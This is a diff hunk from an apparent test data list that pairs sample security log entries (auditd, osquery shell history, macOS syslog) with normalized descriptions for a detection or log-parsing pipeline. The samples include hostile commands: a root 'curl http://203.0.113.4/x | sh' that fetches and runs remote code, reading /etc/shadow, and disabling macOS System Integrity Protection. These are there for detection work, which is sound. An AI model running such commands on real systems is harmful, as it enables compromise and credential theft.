@@ -86,7 +86,7 @@ EXAMPLES = [
      "open process cat arguments etc shadow as user", {"process": "cat"}),
     ({"event": {"exec": {"target": {"executable": {"path": "/usr/bin/osascript"}}, "args": ["osascript", "-e", "display dialog"]}}, "process": {"executable": {"path": "/bin/zsh"}}}, "", "auditd",
      "process execute process usr bin osascript command osascript e display dialog parent bin zsh", {"process": "osascript", "parent": "zsh"}),
-    ({"name": "shell_history", "hostIdentifier": "w1", "columns": {"uid": "0", "command": "curl http://203.0.113.4/x | sh"}}, "", "auditd", "shell history command curl http url publicip x pipe sh as root", {"host": "w1"}),
+    ({"name": "shell_history", "hostIdentifier": "w1", "columns": {"uid": "0", "command": "curl http://203.0.113.4/x | sh"}}, "", "auditd", "shell command curl http url publicip x pipe sh as root", {"host": "w1"}),
     ("2031-03-12 10:15:22.123456+0100 0x1a2b     Default     0x0                  812    0    sudo: (libpam.2.dylib) bob : TTY=ttys000 ; PWD=/Users/bob ; USER=root ; COMMAND=/usr/bin/csrutil disable", "", "syslog",
      "privileged command sudo command usr bin csrutil disable by user as root", {"user": "bob"}),
     ("Mar 12 10:15:22 web1 bash[812]: HISTORY: PID=812 UID=0 curl http://203.0.113.4/x | sh", "", "syslog", "shell command curl http url publicip x pipe sh as root", {"host": "web1"}),
